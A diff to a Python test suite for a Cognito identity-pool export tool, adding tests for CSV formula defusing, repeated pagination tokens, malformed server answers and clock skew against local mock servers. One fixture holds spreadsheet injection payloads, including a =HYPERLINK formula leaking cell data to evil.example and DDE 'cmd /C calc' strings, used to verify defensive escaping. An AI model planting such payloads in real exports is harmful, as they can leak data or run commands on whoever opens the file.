@@ -28,6 +28,24 @@ def iso(t):
     return f"{base}.{ms:03d}Z" if ms else base + "Z"
 
 
+def record_injection(name, surface, values, result):
+    """Keeps what an injection test tried and what came out, for the
+    README's Reliability section (tests/reliability.py)."""
+    build = os.environ.get("COGNITO_TUI_BUILD")
+    if not build:
+        return
+    folder = os.path.join(build, "reliability")
+    os.makedirs(folder, exist_ok=True)
+    with open(os.path.join(folder, f"injection-{name}.json"), "w") as f:
+        json.dump({"surface": surface, "values": sorted(set(values)), "result": result}, f, indent=1)
+
+
+def defused(value):
+    """A CSV cell as the export writes it: a leading ' before what a
+    spreadsheet would take for a formula (OWASP's advice)."""
+    return "'" + value if value[:1] and value[0] in "=+-@\t\r" else value
+
+
 def parse_csv(text):
     rows = list(csv.reader(io.StringIO(text, newline="")))
     return rows[0], [dict(zip(rows[0], r)) for r in rows[1:]]
@@ -136,7 +154,35 @@ class ExportTest(EmulatorCase):
         self.assertEqual(self.export("tags"), want)
         header, rows = self.export("tags", fmt="csv")
         self.assertEqual(header, ["IdentityPoolId", "Key", "Value"])
-        self.assertEqual(rows, want)  # escape-tests values come back byte for byte
+        # escape-tests values come back byte for byte
+        self.assertEqual(rows, [{k: defused(v) for k, v in w.items()} for w in want])
+
+    def test_csv_formulas_are_defused(self):
+        """A tag value that a spreadsheet would run (=HYPERLINK, +, -, @, a
+        leading TAB or CR) is written with a leading ' in CSV, as is in JSON."""
+        tags = {"f-eq": '=HYPERLINK("http://evil.example/?"&A1,"click")', "f-plus": "+1+cmd|' /C calc'!A0",
+                "f-minus": "-2+3", "f-at": "@SUM(1+1)*cmd|' /C calc'!A0", "f-tab": "\t=1", "f-cr": "\r=1",
+                "f-inner": "a=b", "f-quote": "'=kept"}
+        pool = self.emu.ok("CreateIdentityPool", {"IdentityPoolName": "formula-pool",
+                                                  "AllowUnauthenticatedIdentities": False,
+                                                  "IdentityPoolTags": tags})["IdentityPoolId"]
+        try:
+            header, rows = self.export("tags", "--pool", pool, fmt="csv")
+            got = {r["Key"]: r["Value"] for r in rows}
+            self.assertEqual(got["f-eq"], "'" + tags["f-eq"])
+            self.assertEqual(got["f-plus"], "'" + tags["f-plus"])
+            self.assertEqual(got["f-minus"], "'-2+3")
+            self.assertEqual(got["f-at"], "'" + tags["f-at"])
+            self.assertEqual(got["f-tab"], "'\t=1")
+            self.assertEqual(got["f-cr"], "'\r=1")
+            self.assertEqual(got["f-inner"], "a=b")
+            self.assertEqual(got["f-quote"], "'=kept")
+            rows = self.export("tags", "--pool", pool)
+            self.assertEqual({r["Key"]: r["Value"] for r in rows}, tags)  # JSON is unchanged
+            record_injection("csv-formulas", "export --format csv (tag values)", tags.values(),
+                             "a leading ' before =, +, -, @, TAB, CR; JSON unchanged")
+        finally:
+            self.emu.ok("DeleteIdentityPool", {"IdentityPoolId": pool})
 
     def test_tags_account_id_order(self):
         """--account, else AWS_ACCOUNT_ID / aws_account_id / STS
@@ -289,7 +335,13 @@ class ExportTest(EmulatorCase):
                 break
             time.sleep(0.05)
         time.sleep(0.3)  # page 2 is now held back by the 3 s delay
-        self.assertEqual(len(os.listdir(folder)), 2)  # the target and the temporary file
+        # The target, and a named temporary file only where O_TMPFILE is missing.
+        try:
+            os.close(os.open(folder, os.O_TMPFILE | os.O_WRONLY, 0o600))
+            unnamed = True
+        except OSError:
+            unnamed = False
+        self.assertEqual(len(os.listdir(folder)), 1 if unnamed else 2)
         p.send_signal(signal.SIGINT)
         p.communicate(timeout=30)
         self.assertEqual(p.returncode, -signal.SIGINT)
@@ -363,19 +415,26 @@ class ExportTest(EmulatorCase):
         self.assertEqual(rc, 0, err)
         self.assertNotIn(b"\x1b", tty)
         self.assertNotIn("\u202e".encode(), tty)
+        values = [v for t in self.expected_tags(esc) for v in (t["Key"], t["Value"])
+                  if any(not (" " <= c <= "~") for c in v)]
+        record_injection("terminal", "export to a terminal, CSV and JSON (tag keys and values)", values,
+                         "no ESC or bidi override reached the terminal; shown escaped (\\x1b, \\u202e)")
 
 
 class RepeatedTokenServer(http.server.BaseHTTPRequestHandler):
-    """A service that hands out the same NextToken forever."""
+    """A service whose NextTokens come from `tokens` in turn, forever."""
     protocol_version = "HTTP/1.1"
     pages = 0
+    tokens = ["always-the-same"]
 
     def do_POST(self):
         self.rfile.read(int(self.headers.get("Content-Length", "0")))
-        type(self).pages += 1
-        n = type(self).pages
+        cls = type(self)
+        cls.pages += 1
+        n = cls.pages
         body = json.dumps({"IdentityPools": [{"IdentityPoolId": f"us-east-1:{n:08x}-0000-0000-0000-000000000000",
-                                              "IdentityPoolName": f"p{n}"}], "NextToken": "always-the-same"}).encode()
+                                              "IdentityPoolName": f"p{n}"}],
+                           "NextToken": cls.tokens[(n - 1) % len(cls.tokens)]}).encode()
         self.send_response(200)
         self.send_header("Content-Type", "application/x-amz-json-1.1")
         self.send_header("x-amzn-RequestId", f"req-{n}")
@@ -388,7 +447,8 @@ class RepeatedTokenServer(http.server.BaseHTTPRequestHandler):
 
 
 class RepeatedTokenTest(unittest.TestCase):
-    def test_a_repeated_token_stops_the_walk(self):
+    def export(self, tokens, *args):
+        RepeatedTokenServer.pages, RepeatedTokenServer.tokens = 0, tokens
         server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), RepeatedTokenServer)
         threading.Thread(target=server.serve_forever, daemon=True).start()
         try:
@@ -396,16 +456,176 @@ class RepeatedTokenTest(unittest.TestCase):
                        AWS_REGION=REGION, AWS_CONFIG_FILE="/nonexistent/cognito-tui-tests/config",
                        AWS_SHARED_CREDENTIALS_FILE="/nonexistent/cognito-tui-tests/credentials",
                        XDG_STATE_HOME="/nonexistent/cognito-tui-tests/state")  # a read journals nothing
-            p = subprocess.run([BIN, "export", "pools", "--endpoint-url", f"http://127.0.0.1:{server.server_port}"],
+            return subprocess.run([BIN, "export", "pools", "--endpoint-url", f"http://127.0.0.1:{server.server_port}",
+                                   *args], env=env, capture_output=True, timeout=60)
+        finally:
+            server.shutdown()
+            server.server_close()
+
+    def test_a_repeated_token_ends_the_walk_with_an_error(self):
+        p = self.export(["always-the-same"])
+        # Page 1 gives the token, page 2 gives it again: the walk stops there, as an error.
+        self.assertEqual(RepeatedTokenServer.pages, 2)
+        self.assertEqual(p.returncode, 1, p.stderr)
+        self.assertIn(b"ListIdentityPools: page 2 gave a NextToken an earlier page", p.stderr)
+        self.assertEqual(len(p.stderr.splitlines()), 1, p.stderr)
+
+    def test_alternating_tokens_end_the_walk(self):
+        """A, B, A: the third token was seen two pages back. Before the rule
+        covered the whole walk, this export never ended."""
+        folder = tempfile.mkdtemp(prefix="cognito-cli-export-")
+        try:
+            path = os.path.join(folder, "pools.json")
+            with open(path, "w") as f:
+                f.write("old\n")
+            p = self.export(["A", "B", "C", "B"], "-o", path)
+            self.assertEqual(RepeatedTokenServer.pages, 4)
+            self.assertEqual(p.returncode, 1, p.stderr)
+            self.assertIn(b"page 4 gave a NextToken", p.stderr)
+            with open(path) as f:
+                self.assertEqual(f.read(), "old\n")  # an export that failed replaces nothing
+            self.assertEqual(os.listdir(folder), ["pools.json"])
+        finally:
+            shutil.rmtree(folder, ignore_errors=True)
+
+
+class CannedServer(http.server.BaseHTTPRequestHandler):
+    """A service that answers every call with the next of `bodies` (the last
+    one again when they run out)."""
+    protocol_version = "HTTP/1.1"
+    bodies = [b"{}"]
+    calls = 0
+
+    def do_POST(self):
+        self.rfile.read(int(self.headers.get("Content-Length", "0")))
+        cls = type(self)
+        body = cls.bodies[min(cls.calls, len(cls.bodies) - 1)]
+        cls.calls += 1
+        self.send_response(200)
+        self.send_header("Content-Type", "application/x-amz-json-1.1")
+        self.send_header("x-amzn-RequestId", f"req-{cls.calls}")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args):
+        pass
+
+
+POOL = "us-east-1:00000000-0000-0000-0000-000000000001"
+
+
+class OddAnswersTest(unittest.TestCase):
+    """Answers no real service sends but a broken proxy or a bug could: the
+    export survives any JSON value where a string, list or object belongs."""
+
+    def run_export(self, bodies, *args):
+        CannedServer.bodies, CannedServer.calls = bodies, 0
+        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), CannedServer)
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        try:
+            env = dict(os.environ, AWS_ACCESS_KEY_ID=harness.FULL_KEY[0], AWS_SECRET_ACCESS_KEY=harness.FULL_KEY[1],
+                       AWS_REGION=REGION, AWS_CONFIG_FILE="/nonexistent/cognito-tui-tests/config",
+                       AWS_SHARED_CREDENTIALS_FILE="/nonexistent/cognito-tui-tests/credentials",
+                       XDG_STATE_HOME="/nonexistent/cognito-tui-tests/state")
+            return subprocess.run([BIN, "--endpoint-url", f"http://127.0.0.1:{server.server_port}", "export", *args],
+                                  env=env, capture_output=True, timeout=60)
+        finally:
+            server.shutdown()
+            server.server_close()
+
+    def test_null_inside_logins(self):
+        """The red team's crash: a null inside an identity's Logins killed the
+        CSV export and left its temporary file behind."""
+        body = json.dumps({"IdentityPoolId": POOL, "Identities": [
+            {"IdentityId": "us-east-1:i1", "Logins": ["graph.facebook.com", None, 7], "CreationDate": 1.5},
+            {"IdentityId": "us-east-1:i2", "Logins": None}]}).encode()
+        folder = tempfile.mkdtemp(prefix="cognito-cli-export-")
+        try:
+            path = os.path.join(folder, "ids.csv")
+            p = self.run_export([body], "identities", "--pool", POOL, "--format", "csv", "-o", path)
+            self.assertEqual(p.returncode, 0, p.stderr)
+            self.assertEqual(os.listdir(folder), ["ids.csv"])
+            with open(path, newline="") as f:
+                header, rows = parse_csv(f.read())
+            self.assertEqual([r["Logins"] for r in rows], ["graph.facebook.com;7", ""])
+            self.assertEqual(rows[0]["CreationDate"], "1970-01-01T00:00:01.500Z")
+        finally:
+            shutil.rmtree(folder, ignore_errors=True)
+
+    def test_wrong_types_everywhere(self):
+        # The zoo of values at every place is tests/unit/test_tui_export.c's; here, a
+        # few through the real binary and parser.
+        odd = [None, 3, [None]]
+        for kind, args, body in (
+                ("pools", [], lambda v: {"IdentityPools": [{"IdentityPoolId": v, "IdentityPoolName": v}, v]}),
+                ("identities", ["--pool", POOL],
+                 lambda v: {"Identities": [{"IdentityId": v, "Logins": v, "CreationDate": v}]}),
+                ("roles", ["--pool", POOL],
+                 lambda v: {"Roles": {"authenticated": v}, "RoleMappings": {"p": v, "q": {"Type": v,
+                            "RulesConfiguration": {"Rules": [v, {"Claim": v}]}}}}),
+                ("tags", ["--pool", POOL, "--account", "123456789012"], lambda v: {"Tags": {"k": v}})):
+            for v in odd:
+                for fmt in ("json", "csv") if kind == "identities" else ("csv",):
+                    with self.subTest(kind=kind, value=v, fmt=fmt):
+                        p = self.run_export([json.dumps(body(v)).encode()], kind, *args, "--format", fmt)
+                        # Rows, or (nested deeper than the model allows) one clear error line.
+                        if p.returncode == 0:
+                            if fmt == "json":
+                                self.assertIsInstance(json.loads(p.stdout), list)
+                        else:
+                            self.assertEqual(p.returncode, 1, p.stderr)
+                            self.assertEqual(len(p.stderr.splitlines()), 1, p.stderr)
+                            self.assertIn(b"nested deeper than the model allows", p.stderr)
+
+
+class FutureServer(http.server.BaseHTTPRequestHandler):
+    """A service whose clock says 2035: every signed call is "expired"."""
+    protocol_version = "HTTP/1.1"
+    signed_at = []
+
+    def do_POST(self):
+        self.rfile.read(int(self.headers.get("Content-Length", "0")))
+        type(self).signed_at.append(self.headers.get("X-Amz-Date"))
+        body = b'{"__type": "InvalidSignatureException", "message": "Signature expired"}'
+        self.send_response(400)
+        self.send_header("Date", "Mon, 01 Jan 2035 00:00:00 GMT")
+        self.send_header("Content-Type", "application/x-amz-json-1.1")
+        self.send_header("x-amzn-RequestId", "req-future")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args):
+        pass
+
+
+class ClockTest(unittest.TestCase):
+    def test_a_server_in_2035_gets_at_most_a_day_of_correction(self):
+        FutureServer.signed_at = []
+        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), FutureServer)
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        try:
+            env = dict(os.environ, AWS_ACCESS_KEY_ID=harness.FULL_KEY[0], AWS_SECRET_ACCESS_KEY=harness.FULL_KEY[1],
+                       AWS_REGION=REGION, AWS_CONFIG_FILE="/nonexistent/cognito-tui-tests/config",
+                       AWS_SHARED_CREDENTIALS_FILE="/nonexistent/cognito-tui-tests/credentials",
+                       XDG_STATE_HOME="/nonexistent/cognito-tui-tests/state")
+            p = subprocess.run([BIN, "--endpoint-url", f"http://127.0.0.1:{server.server_port}", "export", "pools"],
                                env=env, capture_output=True, timeout=60)
         finally:
             server.shutdown()
             server.server_close()
-        self.assertEqual(p.returncode, 0, p.stderr)
-        # Page 1 gives the token, page 2 gives it again: the walk stops there.
-        self.assertEqual(RepeatedTokenServer.pages, 2)
-        self.assertEqual([r["IdentityPoolName"] for r in json.loads(p.stdout)], ["p1", "p2"])
-        self.assertIn(b"repeated a NextToken", p.stderr)
+        self.assertEqual(p.returncode, 1, p.stderr)
+        self.assertIn(b"InvalidSignatureException", p.stderr)
+        self.assertIn(b"cognito-tui: Warning: this machine's clock is", p.stderr)
+        self.assertIn(b"more than the 24 h the client corrects", p.stderr)
+        stamps = [datetime.datetime.strptime(s, "%Y%m%dT%H%M%SZ").replace(tzinfo=datetime.timezone.utc)
+                  for s in FutureServer.signed_at]
+        now = datetime.datetime.now(datetime.timezone.utc)
+        self.assertEqual(len(stamps), 2, FutureServer.signed_at)  # one retry at the corrected time
+        self.assertLess(abs((stamps[0] - now).total_seconds()), 120)
+        self.assertLess((stamps[1] - now).total_seconds(), 86400 + 120)  # not 2035
+        self.assertGreater((stamps[1] - now).total_seconds(), 86400 - 120)
 
 
 if __name__ == "__main__":
